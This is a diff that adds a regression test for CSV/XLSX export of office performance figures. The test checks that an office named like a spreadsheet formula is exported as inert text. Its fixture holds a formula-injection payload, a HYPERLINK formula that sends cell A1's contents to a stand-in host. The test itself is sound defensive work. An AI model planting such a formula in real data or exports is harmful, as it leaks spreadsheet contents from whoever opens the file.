@@ -181,3 +181,22 @@ def test_xlsx_in_persian_reads_right_to_left(client, manager, data):
     assert sheet.sheet_view.rightToLeft
     assert sheet["A3"].value == "فروردین ۱۴۰۳"
     assert sheet["B3"].value == "۱۴۰۳/۰۱/۰۱"
+
+
+def test_an_office_named_like_a_formula_is_exported_as_text(client, manager, data):
+    """An office named =HYPERLINK(...) became a live formula in the XLSX and a raw cell in
+    the CSV: a spreadsheet program would run it on the manager's machine."""
+    from apps.meter_service.doctype.counter_office.models import CounterOffice
+
+    formula = '=HYPERLINK("http://x.example/?d="&A1,"open")'
+    CounterOffice.objects.filter(code="1001").update(name=formula)
+    client.force_login(manager)
+    query = {"date_from": "2024-03-20", "date_to": "2024-06-20", "figure": "office_performance"}
+    cells = [cell for row in _csv(client.get(CSV, query))[1:] for cell in row]
+    assert "'" + formula in cells and formula not in cells
+    book = load_workbook(io.BytesIO(client.get(XLSX, query).content))
+    sheet = book["office_performance"]
+    office = next(
+        cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value == formula
+    )
+    assert office.data_type == "s"
